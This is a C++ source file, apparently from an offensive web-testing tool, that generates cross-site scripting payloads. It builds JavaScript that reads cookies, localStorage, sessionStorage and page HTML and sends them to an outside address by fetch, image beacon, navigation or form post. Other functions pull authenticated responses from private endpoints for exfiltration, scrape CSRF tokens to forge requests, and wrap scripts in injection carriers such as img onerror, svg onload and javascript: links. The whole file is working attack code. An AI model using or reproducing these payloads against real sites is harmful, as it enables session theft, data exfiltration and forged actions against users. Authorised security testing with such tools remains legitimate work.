#include "core/attack/page_script.h"

#include "core/attack/app_script.h"
#include "core/attack/options.h"

namespace parapet::attack {

char const kAllInReach[] =
    "document.cookie+\"\\n\"+JSON.stringify(localStorage)+\"\\n\"+JSON.stringify(sessionStorage)+"
    "\"\\n\"+document.documentElement.innerHTML";

std::string send_script(Channel channel, std::string const& address,
                        std::string const& expression) {
    std::string const url = script_string(address);
    std::string const query = script_string(address + "?");
    switch (channel) {
        case Channel::Fetch:
            return "fetch(" + url + ",{method:\"POST\",mode:\"no-cors\",body:" + expression + "});";
        case Channel::Image:
            return "new Image().src=" + query + "+encodeURIComponent(" + expression + ");";
        case Channel::Navigation:
            return "location=" + query + "+encodeURIComponent(" + expression + ");";
        case Channel::Form:
            return "const f=document.createElement(\"form\");f.method=\"post\";f.action=" + url +
                   ";const i=document.createElement(\"input\");i.name=\"t\";i.value=" + expression +
                   ";f.appendChild(i);document.body.appendChild(f);f.submit();";
    }
    return {};
}

std::string fetch_and_send(std::string const& page, std::string const& address) {
    return "fetch(" + script_string(page) +
           ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
           send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
           "});";
}

std::string once(std::string const& script) {
    return "if(!window.taken){window.taken=1;" + script + "}";
}

std::string taking_script(Target const& target, std::string const& address) {
    std::string script;
    // Where a policy leaves no other way out, what was fetched leaves as an address.
    for (Endpoint const* each : private_endpoints(target))
        script +=
            "fetch(" + script_string(app_origin(target) + each->path) +
            ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
            send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
            send_script(Channel::Navigation, address, std::string(kAllInReach) + "+t") + "});";
    return once(script + send_script(Channel::Fetch, address, kAllInReach) +
                send_script(Channel::Image, address, kAllInReach) +
                send_script(Channel::Navigation, address, kAllInReach));
}

std::string fetch_script(std::string_view method, std::string const& address, std::string_view type,
                         std::string const& body, std::string const& more_headers) {
    return "fetch(" + script_string(address) + ",{method:\"" + std::string(method) +
           "\",credentials:\"include\",headers:{\"content-type\":\"" + std::string(type) + "\"" +
           more_headers + "},body:" + body + "});";
}

std::string act_script(Target const& target, Endpoint const& endpoint, OwnForm const& own) {
    auto const fields = wanted_fields(endpoint);
    bool const is_json =
        !endpoint.parameters.empty() && endpoint.parameters.front().place == Place::JsonField;
    std::string_view const type =
        is_json ? "application/json" : "application/x-www-form-urlencoded";
    std::string body = is_json ? json_object(fields) : http::serialize_query(fields);
    std::string const address = address_of(target, endpoint);
    bool const has_token = !own.page.empty() && !own.before_token.empty();
    std::string const token = has_token ? own.token : "";
    std::string headers;
    for (http::QueryPair const& each : own.headers)
        headers += "," + script_string(each.name) + ":" +
                   (each.value == token ? std::string("t") : script_string(each.value));
    if (!has_token)
        return fetch_script(endpoint.method, address, type, script_string(body), headers);
    if (own.headers.empty()) headers = ",\"x-csrf-token\":t";
    if (is_json) body.pop_back();
    // The token goes under every name that it has somewhere.
    std::string expression = script_string(body);
    for (http::QueryPair const& each : own.tokens) {
        std::string const value = each.value == token ? "t" : script_string(each.value);
        expression +=
            is_json
                ? "+" + script_string(",\"" + each.name + "\":\"") + "+" + value + "+'\"'"
                : "+" + script_string("&" + each.name + "=") + "+encodeURIComponent(" + value + ")";
    }
    if (is_json) expression += "+'}'";
    // A header has to be asked for first, and a field may be enough.
    std::string act = fetch_script(endpoint.method, address, type, expression);
    act += fetch_script(endpoint.method, address, type, expression, headers);
    if (!own.script.empty()) return act_with_script(target, own, act);
    return "fetch(" + script_string(app_origin(target) + own.page) +
           ",{credentials:\"include\"}).then(r=>r.text()).then(p=>{const t=p.split(" +
           script_string(own.before_token) + ")[1].split(" + script_string(own.after_token) +
           ")[0];" + act + "});";
}

std::vector<std::string> script_carriers(std::string const& script) {
    std::string const attribute = in_quotes(script);
    return {"<script>" + script + "</script>",
            "<img src=\"x:\" onerror=" + attribute + ">",
            "<svg onload=" + attribute + "></svg>",
            "<iframe srcdoc=" + in_quotes("<script>" + script + "</script>") + "></iframe>",
            "<iframe src=" + in_quotes("javascript:" + script) + "></iframe>",
            "<a href=" + in_quotes("javascript:" + script) + ">Read more</a>"};
}

std::string movie_html(std::string const& address) {
    return "<object type=\"" + std::string(kMovieType) + "\" data=" + in_quotes(address) +
           "><param name=\"AllowScriptAccess\" value=\"always\"></object>";
}

}  // namespace parapet::attack
